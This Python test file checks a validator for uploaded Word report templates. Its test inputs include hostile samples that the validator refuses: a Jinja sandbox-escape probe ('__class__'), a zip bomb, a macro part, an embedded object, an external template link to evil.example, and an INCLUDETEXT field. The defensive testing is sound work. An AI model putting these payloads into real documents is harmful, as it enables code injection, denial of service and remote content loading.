"""Templates from outside: what may stand in one, and what is refused with which words."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest
from docx import Document

from domain.papers import Kind
from domain.templates import Template
from reports.papers import advising, language_texts, reading, shipped
from reports.papers.accepting import BIGGEST, examine
from reports.papers.fields import sample
from reports.papers.language import BadTemplate, check
from reports.papers.views import Gap
from survey_defs.loading import shipped as surveys

THREE_DEEP = "{% for a in механизмы %}" * 3 + "{% endfor %}" * 3
WELL = sample(Kind.MUNICIPALITY)


def written(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    content = BytesIO()
    document.save(content)
    return content.getvalue()


def altered(content: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    made = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(content)) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in more.items():
            new.writestr(name.replace("__", "/").replace("_dot_", "."), part)
    return made.getvalue()


def same(name: str, part: bytes) -> bytes:
    return part


@pytest.mark.parametrize("kind", [each for each in Template if each.value in set(Kind)])
def test_what_we_ship_is_accepted(kind: Template) -> None:
    examine(shipped.template(Kind(kind.value)), kind, {})


def test_recommendations_that_we_ship_are_accepted_and_read_back() -> None:
    for survey in surveys().values():
        codes = advising.codes_of(survey)
        assert reading.read(advising.document(survey), list(codes)) == advising.shipped(survey)


def test_a_percent_stays_with_its_number() -> None:
    gap = Gap("H1", "Муниципальное задание", "4", "Показатели")
    texts = {"H1": "Ориентир — от 95 % и выше; {{ где }} %."}
    (made,) = advising.advice(texts, [gap], "Школа № 1")
    assert made.text == "Ориентир — от 95\N{NO-BREAK SPACE}% и выше; Показатели %."


@pytest.mark.parametrize(
    ("source", "sentence"),
    [
        ("{{ нмер }}", "Поля «нмер» нет; возможно, «номер»."),
        (
            "{% for с in механизмы %}{{ с.балы }}{% endfor %}",
            "Поля «балы» нет; возможно, «баллы».",
        ),
        ("{% for с in баллы %}{% endfor %}", "«баллы» — не список, повторять нечего."),
        ("{{ номер.часть }}", "У поля «номер» нет части «часть»."),
        ("{{ ''.__class__ }}", "У поля «» нет части «__class__»."),
        ("{{ номер|safe }}", "Действие «safe» здесь не выполняется."),
        ("{% set x = 1 %}", f"{language_texts.FORBIDDEN}."),
        ("{{ 9 ** 9 }}", f"{language_texts.FORBIDDEN}."),
        ("{{ range(9) }}", f"{language_texts.FORBIDDEN}."),
        ("{% include 'x' %}", f"{language_texts.FORBIDDEN}."),
        ("{% macro x() %}{% endmacro %}", f"{language_texts.FORBIDDEN}."),
        (
            THREE_DEEP,
            f"{language_texts.TOO_DEEP}.",
        ),
    ],
)
def test_what_a_template_may_not_say(source: str, sentence: str) -> None:
    with pytest.raises(BadTemplate) as refused:
        check(source, WELL)
    assert refused.value.sentence.startswith(sentence)


@pytest.mark.parametrize(
    "source",
    [
        "{{ номер }}",
        "{% if порог and not прогноз %}{{ порог|upper }}{% else %}{{ место }}{% endif %}",
        "{% for с in механизмы %}{{ loop.index }}. {{ с.название }}{% endfor %}",
    ],
)
def test_what_it_may_say(source: str) -> None:
    check(source, WELL)


def test_a_wrong_field_in_word_is_named_with_the_words_around_it() -> None:
    with pytest.raises(BadTemplate) as refused:
        examine(written("Справка", "Баллы: {{ балы }}"), Template.SCHOOL, {})
    assert refused.value.sentence == (
        "Поля «балы» нет; возможно, «баллы». Это здесь: «Баллы: {{ балы }}»."
    )


def test_what_is_no_template_at_all() -> None:
    well = written("{{ номер }}")
    linked = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://x/attachedTemplate" TargetMode="External" '
        b'Target="http://evil.example/t.dotm"/></Relationships>'
    )
    bomb = altered(well, same, word__media__a_dot_bin=b"\0" * 41_000_000)
    pulled = well and altered(
        well,
        lambda name, part: (
            part.replace(
                b"</w:p>", b"<w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r></w:p>", 1
            )
            if name == "word/document.xml"
            else part
        ),
    )
    for content, sentence in (
        (b"", language_texts.NOT_WORD),
        (b"PK\x03\x04 half", language_texts.NOT_WORD),
        (b"x" * (BIGGEST + 1), language_texts.TOO_BIG),
        (bomb, language_texts.TOO_MUCH_INSIDE),
        (altered(well, same, word__vbaProject_dot_bin=b"x"), language_texts.MACROS),
        (altered(well, same, word__embeddings__a_dot_bin=b"x"), language_texts.EMBEDDED),
        (altered(well, same, word___rels__s_dot_xml_dot_rels=linked),
         language_texts.OUTSIDE.format(name="http://evil.example/t.dotm")),
        (pulled, language_texts.COMMANDS.format(name="INCLUDETEXT")),
        (written("просто письмо"), language_texts.EMPTY),
    ):  # fmt: skip
        with pytest.raises(BadTemplate) as refused:
            examine(content, Template.SCHOOL, {})
        assert refused.value.sentence == sentence


def test_recommendations_are_for_codes_that_there_are() -> None:
    document = Document()
    table = document.add_table(rows=2, cols=2)
    for row, texts in zip(table.rows, (("Код", "Рекомендация"), ("C77", "Читать.")), strict=True):
        for cell, words in zip(row.cells, texts, strict=True):
            cell.text = words
    content = BytesIO()
    document.save(content)
    with pytest.raises(BadTemplate) as refused:
        reading.read(content.getvalue(), ["C1", "C2"])
    assert refused.value.sentence == "Кода «C77» в анкете нет. Есть: C1, C2."
    with pytest.raises(BadTemplate) as refused:
        reading.read(written("без таблицы"), ["C1"])
    assert refused.value.sentence == language_texts.NO_TABLE
